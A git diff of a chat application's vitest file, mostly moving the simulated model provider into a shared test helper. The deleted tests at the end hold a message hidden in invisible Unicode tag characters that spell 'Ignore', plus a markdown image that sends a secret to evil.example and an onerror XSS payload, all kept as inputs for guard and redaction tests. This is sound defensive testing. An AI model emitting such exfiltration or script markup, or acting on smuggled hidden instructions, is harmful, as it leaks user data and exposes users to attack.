@@ -1,33 +1,19 @@
-import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
+import { beforeEach, describe, expect, it, vi } from "vitest";
 import { findChat } from "@/lib/chats/find-chat";
 import { decompress } from "@/lib/db/compression";
 import { getPool } from "@/lib/db/pool";
-import { type Provider, startProvider } from "@/scripts/provider/start-provider";
 import { useTestDatabase } from "@/test/database";
 import { type Guest, readAnswer, signInGuest } from "@/test/guest";
+import { useProvider } from "@/test/provider";
 import { resumeTurn } from "./routes/resume-turn";
 import { stopTurn } from "./routes/stop-turn";
 
 useTestDatabase();
+const simulated = useProvider("compatible/first,compatible/second,builtin");
 
-let provider: Provider;
 let guest: Guest;
 
-beforeAll(async () => {
-  provider = await startProvider({ port: 0 });
-  vi.stubEnv("AUTH_SECRET", "a secret that only these tests know!");
-  vi.stubEnv("COMPATIBLE_BASE_URL", `${provider.url}/compatible/v1`);
-  vi.stubEnv("COMPATIBLE_MODEL", "first");
-  vi.stubEnv("COMPATIBLE_PRICE", "1/2");
-  vi.stubEnv("MODEL_CHAIN", "compatible/first,compatible/second,builtin");
-  vi.stubEnv("LOG_LEVEL", "silent");
-});
-
-afterAll(() => provider.close());
-
 beforeEach(async () => {
-  provider.resetStats();
-  provider.control({ reset: true, latencyMs: 1, tokensPerSecond: 0, answer: "A plain answer." });
   guest = await signInGuest();
 });
 
@@ -67,7 +53,7 @@ describe("a turn", () => {
     const attempt = await rowOf("attempts", answer.turnId);
     expect(attempt["cost_nanos"]).toBe(turn["cost_nanos"]);
     const request = (await decompress(attempt["request_body"] as Buffer)).toString();
-    expect(request).toBe(provider.requests(1)[0]?.bodyText);
+    expect(request).toBe(simulated.provider.requests(1)[0]?.bodyText);
     expect((await decompress(attempt["response_body"] as Buffer)).toString()).toContain("[DONE]");
 
     const { rows } = await getPool().query("SELECT * FROM usage_counters WHERE subject = $1", [
@@ -88,7 +74,7 @@ describe("a turn", () => {
       [expect.any(String), "assistant"],
     ]);
     expect(chat?.running).toBe(false);
-    const sent = JSON.parse(provider.requests(1)[0]?.bodyText ?? "{}");
+    const sent = JSON.parse(simulated.provider.requests(1)[0]?.bodyText ?? "{}");
     expect(sent.messages.map((message: { role: string }) => message.role)).toEqual([
       "system",
       "user",
@@ -104,7 +90,7 @@ describe("a turn", () => {
     const bodies = await Promise.all([...responses, late].map((response) => response.text()));
     expect(new Set(bodies).size).toBe(1);
     expect(new Set(responses.map((response) => response.headers.get("x-turn-id"))).size).toBe(1);
-    expect(provider.requests(50)).toHaveLength(1);
+    expect(simulated.provider.requests(50)).toHaveLength(1);
   });
 
   it("refuses the same name with other words, another's chat, and a second question while one is answered", async () => {
@@ -114,7 +100,7 @@ describe("a turn", () => {
     await expect(other.ask({ id: "c-own", messageId: "x" })).rejects.toMatchObject({ code: "not_found" });
     await expect(other.ask({ id: "c-own" })).rejects.toMatchObject({ code: "not_found" });
 
-    provider.control({ model: "first", fault: { kind: "hang", at: 1 } });
+    simulated.provider.control({ model: "first", fault: { kind: "hang", at: 1 } });
     const running = await guest.ask({ id: "c-own", messageId: "m2" });
     await expect(guest.ask({ id: "c-own", messageId: "m3" })).rejects.toMatchObject({ code: "conflict" });
     await stopTurn(guest.request("/api/chat/c-own/stop", {}), route("c-own"));
@@ -122,7 +108,11 @@ describe("a turn", () => {
   });
 
   it("goes on when its reader leaves, and a second reader gets it from its first part", async () => {
-    provider.control({ latencyMs: 50, tokensPerSecond: 100, answer: { kind: "lorem", tokens: 30 } });
+    simulated.provider.control({
+      latencyMs: 50,
+      tokensPerSecond: 100,
+      answer: { kind: "lorem", tokens: 30 },
+    });
     const first = await guest.ask({ id: "c-leave" });
     await first.body?.cancel();
     const resumed = await readAnswer(
@@ -136,7 +126,11 @@ describe("a turn", () => {
   });
 
   it("ends at Stop: the provider's call is cancelled and the partial answer kept", async () => {
-    provider.control({ latencyMs: 1, tokensPerSecond: 50, answer: { kind: "lorem", tokens: 2_000 } });
+    simulated.provider.control({
+      latencyMs: 1,
+      tokensPerSecond: 50,
+      answer: { kind: "lorem", tokens: 2_000 },
+    });
     const response = await guest.ask({ id: "c-stop" });
     const reader = response.clone().body?.getReader();
     for (let seen = ""; !seen.includes("text-delta"); ) {
@@ -151,13 +145,13 @@ describe("a turn", () => {
     expect(BigInt(String(turn["cost_nanos"]))).toBeGreaterThan(0n);
     const chat = await findChat("c-stop", guest.userId);
     expect(chat?.messages.at(-1)?.parts[0]).toMatchObject({ type: "text", text: answer.text });
-    await vi.waitFor(() => expect(provider.requests(1)[0]?.outcome).toBe("aborted"));
+    await vi.waitFor(() => expect(simulated.provider.requests(1)[0]?.outcome).toBe("aborted"));
   });
 
   it("tells when a backup answered, and when no model did", async () => {
-    provider.control({ model: "first", fault: { kind: "status", status: 500 } });
+    simulated.provider.control({ model: "first", fault: { kind: "status", status: 500 } });
     expect((await readAnswer(await guest.ask({ id: "c-backup" }))).notices).toEqual(["answered_by_backup"]);
-    provider.control({ fault: { kind: "status", status: 503 } });
+    simulated.provider.control({ fault: { kind: "status", status: 503 } });
     const builtin = await readAnswer(await guest.ask({ id: "c-builtin" }));
     expect(builtin.notices).toEqual(["answered_without_model"]);
     expect(await rowOf("turns", builtin.turnId)).toMatchObject({ status: "COMPLETED", cost_nanos: "0" });
@@ -165,7 +159,7 @@ describe("a turn", () => {
 
   it("makes a branch when a question is asked again for another answer", async () => {
     const first = await readAnswer(await guest.ask({ id: "c-again" }));
-    provider.control({ answer: "Another answer." });
+    simulated.provider.control({ answer: "Another answer." });
     const second = await readAnswer(await guest.ask({ id: "c-again", regenerate: "r1" }));
     expect(second.text).toBe("Another answer.");
     expect(second.turnId).not.toBe(first.turnId);
@@ -193,30 +187,5 @@ describe("a turn", () => {
     await expect(guest.ask({ id: "c-edit", messageId: "m4", parentId: "nowhere" })).rejects.toMatchObject({
       code: "not_found",
     });
-  });
-
-  it("keeps a question that a guard refuses, before a reviewer, and charges nothing", async () => {
-    const flood = "\u{e0049}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065}".repeat(20);
-    const refused = guest.ask({ id: "c-blocked", text: `Hi ${flood}` });
-    await expect(refused).rejects.toMatchObject({ code: "input_blocked", turnId: expect.any(String) });
-    await expect(guest.ask({ id: "c-blocked", text: `Hi ${flood}` })).rejects.toMatchObject({
-      code: "input_blocked",
-    });
-    const { rows } = await getPool().query(
-      "SELECT t.id, t.status, f.kind FROM turns t JOIN flags f ON f.turn_id = t.id WHERE t.chat_id = 'c-blocked'",
-    );
-    expect(rows).toMatchObject([{ status: "BLOCKED", kind: "GUARD_BLOCK" }]);
-    expect(provider.requests(5)).toHaveLength(0);
-  });
-
-  it("neutralises what the model must not put on the page", async () => {
-    provider.control({
-      answer:
-        "Look: ![a](https://evil.example/p.png?d=secret) <img src=x onerror=alert(1)> [go](https://evil.example/)",
-    });
-    const answer = await readAnswer(await guest.ask({ id: "c-markup" }));
-    expect(JSON.stringify(answer.parts)).not.toContain("evil.example");
-    expect(answer.text).not.toContain("<img");
-    expect(answer.notices).toContain("output_redacted");
   });
 });
